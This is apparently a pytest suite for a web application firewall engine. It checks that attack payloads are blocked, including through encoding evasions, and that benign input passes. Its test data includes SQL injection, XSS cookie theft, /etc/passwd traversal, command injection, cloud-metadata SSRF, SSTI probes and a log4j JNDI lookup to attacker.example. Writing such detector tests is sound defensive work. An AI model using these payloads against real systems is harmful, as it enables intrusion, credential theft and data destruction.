"""The WAF engine on its own: categories, decoding tricks, exclusions, custom rules, limits."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote

import pytest

from ramparts.gateway.waf.cache import build_waf
from ramparts.gateway.waf.decode import decode, fold
from ramparts.gateway.waf.engine import Waf, compile_exclusion
from ramparts.gateway.waf.request import Limits, WafRequest, extract
from ramparts.gateway.waf.rules import WafRuleError, default_rules, parse_rules
from ramparts.manifest import WafConfig

WAF = Waf()


def _json(value: object, field: str = "f", route: str = "POST /api/x") -> WafRequest:
    body = json.dumps({field: value}).encode()
    return WafRequest("POST", "/api/x", "", [("content-type", "application/json")], body,
                      "application/json", route)


def _query(value: str, name: str = "q") -> WafRequest:
    return WafRequest("GET", "/api/x", f"{name}={quote(value)}", [], b"", "", "GET /api/x")


def _categories(req: WafRequest, waf: Waf = WAF) -> set[str]:
    return {m.category for m in waf.inspect(req).matches}


@pytest.mark.parametrize(
    ("category", "payload"),
    [
        ("sqli", "1' OR '1'='1"),
        ("sqli", "-1 UNION ALL SELECT NULL,NULL--"),
        ("sqli", "1; DROP TABLE users--"),
        ("xss", "<img src=x onerror=alert(1)>"),
        ("xss", "javascript:alert(document.cookie)"),
        ("path_traversal", "../../../../etc/passwd"),
        ("path_traversal", "php://filter/convert.base64-encode/resource=index.php"),
        ("command_injection", "127.0.0.1; cat /etc/passwd"),
        ("command_injection", "$(whoami)"),
        ("ssrf", "http://169.254.169.254/latest/meta-data/"),
        ("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"),
        ("ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"),
        ("ssti", "{{7*7}}"),
        ("jndi", "${jndi:ldap://attacker.example/a}"),
    ],
)
def test_each_category_blocks_in_a_json_field_and_a_query(category: str, payload: str) -> None:
    for req in (_json(payload), _query(payload)):
        verdict = WAF.inspect(req)
        assert verdict.blocked, (payload, verdict)
        assert category in {m.category for m in verdict.matches}


@pytest.mark.parametrize(
    "payload",
    [
        "%2527%20OR%201%3D1--",  # double URL-encoded
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",  # double encoded
        "&lt;script&gt;alert(1)&lt;/script&gt;",  # HTML entities
        "ＵＮＩＯＮ ＳＥＬＥＣＴ password FROM users",  # fullwidth (NFKC)
        "1 UnIoN/**/SeLeCt 1,2,3",  # case and SQL comments
        "..%c0%af..%c0%af..%c0%afetc/passwd",  # overlong UTF-8
        "<img src=1 onerror=\\u0061lert(1)>",  # backslash escapes
        "${${lower:j}ndi:${lower:l}dap://x.example/a}",  # nested log4j lookups
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
        "jav%00ascript:alert(1)",  # a NUL inside a keyword
        "%u003Cscript%u003Ealert(1)",  # IIS %u
    ],
)
def test_decoding_tricks_are_seen_through(payload: str) -> None:
    assert WAF.inspect(_json(payload)).blocked, payload


@pytest.mark.parametrize(
    "host",
    ["2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::ffff:127.0.0.1]", "[::1]",
     "metadata.google.internal", "169.254.169.254", "[fd00:ec2::254]", "127.0.0.1.nip.io",
     "10.0.0.5", "172.16.3.4", "192.168.1.1", "[fc00::1]"],
)
def test_ssrf_internal_addresses_in_every_spelling(host: str) -> None:
    verdict = WAF.inspect(_json(f"http://{host}/x", field="webhook_url"))
    assert "ssrf" in {m.category for m in verdict.matches} and verdict.blocked, host


def test_public_urls_and_plain_numbers_are_not_ssrf() -> None:
    for value in ("https://api.stripe.com/v1/charges", "https://example.com/a?b=1", "69002", "4"):
        assert not WAF.inspect(_json(value)).matches, value


def test_scanner_user_agent_and_probe_path() -> None:
    ua = WafRequest("GET", "/api/x", "", [("user-agent", "sqlmap/1.7.2#stable")], route="GET /x")
    assert _categories(ua) == {"scanner"} and WAF.inspect(ua).blocked
    probe = WafRequest("GET", "/files/.env", route="GET /files/{path+}")
    assert WAF.inspect(probe).blocked


def test_locations_name_where_a_payload_was() -> None:
    req = WafRequest(
        "POST", "/api/x", "a=1",
        [("cookie", "s=1; pref=%3Cscript%3Ex()%3C/script%3E"),
         ("content-type", "application/json")],
        json.dumps({"items": [{"note": "ok"}, {"note": "' OR 1=1--"}]}).encode(),
        "application/json", "POST /api/x",
    )
    locations = {m.location for m in WAF.inspect(req).matches}
    assert "$.items[1].note" in locations and "cookie.pref" in locations


def test_form_multipart_and_text_bodies_are_inspected() -> None:
    form = WafRequest("POST", "/x", "", [], b"name=a&bio=%3Cscript%3Ex%3C%2Fscript%3E",
                      "application/x-www-form-urlencoded", "POST /x")
    assert {m.location for m in WAF.inspect(form).matches} == {"form.bio"}
    multipart = (
        b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\n"
        b"--XyZ\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"../../etc/passwd\"\r\n"
        b"Content-Type: text/plain\r\n\r\nplain text\r\n--XyZ--\r\n"
    )
    ctype = "multipart/form-data; boundary=XyZ"
    req = WafRequest("POST", "/x", "", [], multipart, ctype, "POST /x")
    assert "form.doc.filename" in {m.location for m in WAF.inspect(req).matches}
    text = WafRequest("POST", "/x", "", [], b"x; cat /etc/passwd", "text/plain", "POST /x")
    assert WAF.inspect(text).blocked
    # a body whose declared type the handler may ignore is still read as text
    sneaky = WafRequest("POST", "/x", "", [], b'{"q": "1 UNION SELECT pw FROM u"}',
                        "application/octet-stream", "POST /x")
    assert WAF.inspect(sneaky).blocked


def test_base64_values_are_skipped_not_flagged() -> None:
    image = "data:image/png;base64," + "iVBORw0KGgoAAAANSUhEUgAA" * 2000
    assert not WAF.inspect(_json(image)).matches


def test_benign_examples_pass() -> None:
    for value in [
        "O'Reilly", "Shaquille O'Neal", "Ça coûte 12,50 € — c'est l'été !",
        "<p>Hello <b>world</b>, see <a href=\"https://example.com\">our site</a>.</p>",
        "<p style=\"color: #333\">Styled</p>",
        "Run `make test && make lint` before pushing; CI runs the same.",
        "Can we avoid `SELECT *` here? List the columns explicitly.",
        "Union members get 10% off; select 'member' at checkout.",
    ]:
        verdict = WAF.inspect(_json(value))
        assert not verdict.blocked, (value, verdict)


def test_too_much_to_inspect_is_a_finding() -> None:
    waf = Waf(limits=Limits(max_targets=10))
    many = WafRequest("GET", "/x", "&".join(f"k{i}=v" for i in range(50)), route="GET /x")
    verdict = waf.inspect(many)
    assert verdict.blocked and [m.rule for m in verdict.matches] == ["protocol-inspection-limit"]
    deep = _json(json.loads("[" * 80 + "]" * 80))
    assert Waf().inspect(deep).blocked
    big = WafRequest("POST", "/x", "", [], b"a " * (300 * 1024), "text/plain", "POST /x")
    assert Waf().inspect(big).blocked
    _, overflow = extract(big)
    assert overflow is not None


def test_exclusion_for_one_route_field_and_category() -> None:
    exclusion = compile_exclusion("POST /comments", "$.comment", ["xss"])
    waf = Waf(exclusions=[exclusion])
    xss = "<script>alert(1)</script>"
    assert not waf.inspect(_json(xss, "comment", "POST /comments")).blocked
    assert waf.inspect(_json(xss, "title", "POST /comments")).blocked  # another field
    assert waf.inspect(_json(xss, "comment", "POST /other")).blocked  # another route
    assert waf.inspect(_json("' OR 1=1--", "comment", "POST /comments")).blocked  # other rules
    arrays = Waf(exclusions=[compile_exclusion("*", "$.items[*].note", [])])
    req = _json([{"note": xss}], "items")
    assert not arrays.inspect(req).matches


def test_disable_turns_off_rules_and_categories() -> None:
    assert not Waf(disable=["sqli"]).inspect(_json("1' OR '1'='1")).matches
    only_lib = Waf(disable=["xss-libinjection"]).inspect(_json("<script>alert(1)</script>"))
    assert "xss-libinjection" not in {m.rule for m in only_lib.matches} and only_lib.blocked


def test_threshold_and_scores() -> None:
    # a medium rule alone (3) does not reach the default threshold, it does reach 3
    req = _json("<iframe>")
    assert WAF.inspect(req).score == 3 and not WAF.inspect(req).blocked
    assert Waf(threshold=3).inspect(req).blocked


def test_custom_rule_file_and_errors(tmp_path: Path) -> None:
    (tmp_path / "waf").mkdir()
    (tmp_path / "waf" / "mine.yaml").write_text(
        "rules:\n  - id: no-debug\n    category: business\n    description: debug flag\n"
        "    severity: critical\n    targets: [query]\n    patterns: ['^debug$']\n"
    )
    waf = build_waf(WafConfig(rules=["waf/mine.yaml"]), tmp_path)
    assert waf.inspect(_query("DEBUG", "mode")).blocked
    assert not waf.inspect(_json("debug")).matches  # targets: query only
    with pytest.raises(WafRuleError) as exc:
        build_waf(WafConfig(disable=["sqlii"]), tmp_path)
    assert exc.value.problems[0][0] == "waf.disable[0]"
    with pytest.raises(WafRuleError) as exc:
        build_waf(WafConfig(rules=["../outside.yaml"]), tmp_path)
    assert "outside the app" in exc.value.message


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ("rules: [{id: a, category: sqli, description: x, severity: high}]", "rules[0]"),
        ("rules: [{id: a, category: sqli, description: x, severity: high, patterns: ['(']}]",
         "rules[0].patterns"),
        ("rules: [{id: a, category: sqli, description: x, score: 5, patterns: ['a*']}]",
         "rules[0].patterns"),
        ("rules: [{id: a, category: sqli, description: x, severity: huge, patterns: [a]}]",
         "rules[0].severity"),
        ("rules: [{id: a, category: sqli, description: x, severity: high, detector: nope}]",
         "rules[0].detector"),
        ("rules: [{id: a, category: sqli, description: x, severity: high, patterns: [a],"
         " targets: [body, elsewhere]}]", "rules[0].targets"),
        ("rules: [{id: a, category: s, description: x, severity: high, patterns: [a]},"
         " {id: a, category: s, description: y, severity: high, patterns: [b]}]", "rules[1].id"),
        ("rules: [{id: a, category: sqli, description: x, severity: high, patterns: [a], x: 1}]",
         "rules[0].x"),
        ("- not a mapping", ""),
        ("rules: [", "line"),
    ],
)
def test_bad_rule_files_name_the_file_and_field(text: str, field: str) -> None:
    with pytest.raises(WafRuleError) as exc:
        parse_rules(text, "waf/mine.yaml")
    assert exc.value.file == "waf/mine.yaml"
    assert exc.value.problems[0][0].startswith(field), exc.value.problems


def test_default_rules_load_with_unique_ids() -> None:
    rules = default_rules()
    assert len({r.id for r in rules}) == len(rules) > 40
    assert {r.category for r in rules} >= {
        "sqli", "xss", "path_traversal", "command_injection", "ssrf", "ssti", "jndi", "scanner",
        "protocol",
    }


def test_decode_and_fold() -> None:
    assert decode("%252e%252e%252f") == "../"
    assert decode("&#x3C;b&#x3E;") == "<b>"
    assert decode("ｓｅｌｅｃｔ") == "select"
    assert decode("a\x00b") == "ab"
    assert fold("UNION/**/SELECT\t\n1") == "union select 1"
    assert decode("%" * 10) == "%" * 10


_SEEDS = ["a", "'", "<a ", "../", "..", "${", "{{", "{%", " or ", "%25", "\\u", "&#", "/*",
          "<x onx", "${${", "....//", "\ufffd", "cast(", "curl ", "0.", ":", "=", "\\x41",
          "`ls ", "$(", "/a?", "; id", "#set($", "<%= ", "{{#with ", "-o ", "c'a't", "`"]


@pytest.mark.parametrize("seed", _SEEDS)
def test_adversarial_100kb_values_finish(seed: str) -> None:
    """No catastrophic backtracking: each returns (no time is asserted, see bench/)."""
    value = (seed * (100_000 // len(seed) + 1))[:100_000]
    WAF.inspect(WafRequest("POST", "/x", "", [], value.encode(), "text/plain", "POST /x"))
